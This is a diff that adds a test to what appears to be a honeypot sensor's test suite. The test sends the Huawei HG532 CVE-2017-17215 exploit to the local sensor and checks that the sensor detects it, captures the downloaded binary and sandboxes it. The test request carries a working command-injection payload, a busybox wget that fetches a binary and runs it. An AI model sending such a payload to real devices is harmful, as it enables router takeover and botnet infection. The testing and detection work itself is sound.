@@ -12,6 +12,7 @@ import json
 import os
 import random
 import re
+import shutil
 import socket
 import subprocess
 import sys
@@ -379,6 +380,51 @@ class ExploitTest(harness.unittest.TestCase):
         finally:
             httpd.shutdown()
             httpd.server_close()
+
+
+class PipelineTest(harness.unittest.TestCase):
+    def test_exploit_payload_to_verdict(self):
+        """The HG532 exploit (CVE-2017-17215) on its port: the binary its command downloads is
+        fetched, stored and analysed by the sandbox, as a Telnet download is. The binary is a
+        harmless Mirai-like test program (tests/data/box)."""
+        from test_box import compile_bot
+        from test_capture import Servers, sha
+        tmp = tempfile.mkdtemp(prefix='mitsu-webpipe-')
+        srv = Servers()
+        try:
+            binary = os.path.join(tmp, 'mirai.arm7')
+            compile_bot('mirai_like', 'arm', binary)
+            with open(binary, 'rb') as f:
+                data = srv.put('bins/hw.arm7', f.read())
+            srv.start_http()
+            port = harness.free_port()
+            with harness.Sensor(listens=['http@127.0.0.1:%d/hg532' % port],
+                                sets=['capture.allow_private=true', 'box.window=15']) as s:
+                body = ('<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/'
+                        'envelope/"><s:Body><u:Upgrade xmlns:u="urn:www-huawei-com:service:'
+                        'DeviceUpgrade:1"><NewStatusURL>$(/bin/busybox wget http://%s/bins/hw.arm7 '
+                        '-O /tmp/hw; /tmp/hw huawei)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP'
+                        ')</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>' % srv.addr)
+                c = http.client.HTTPConnection('127.0.0.1', port, timeout=10)
+                c.request('POST', '/ctrlt/DeviceUpgrade_1', body,
+                          {'SOAPAction': '"urn:www-huawei-com:service:DeviceUpgrade:1#Upgrade"'})
+                r = c.getresponse()
+                self.assertEqual(r.status, 200)
+                self.assertEqual(r.getheader('Server'), 'Linux UPnP/1.0 Huawei-ATP-IGD')
+                c.close()
+                ev = s.events(wait_for=('mitsu.box.result', lambda e: e.get('shasum') == sha(data)), timeout=240)
+                match = [e for e in ev if e['eventid'] == 'mitsu.exploit.match']
+                self.assertEqual([m['signature'] for m in match], ['huawei-hg532-upgrade-rce'])
+                dl = [e for e in ev if e['eventid'] == 'mitsu.session.file_download']
+                self.assertEqual(dl[0]['url'], 'http://%s/bins/hw.arm7' % srv.addr)
+                self.assertEqual(dl[0]['shasum'], sha(data))
+                self.assertEqual(dl[0]['session'], match[0]['session'])
+                res = [e for e in ev if e['eventid'] == 'mitsu.box.result' and e['shasum'] == sha(data)]
+                self.assertEqual(len(res), 1)
+                self.assertEqual(res[0]['arch'], 'arm')
+        finally:
+            srv.stop()
+            shutil.rmtree(tmp, ignore_errors=True)
 
 
 class ReportTest(harness.unittest.TestCase):
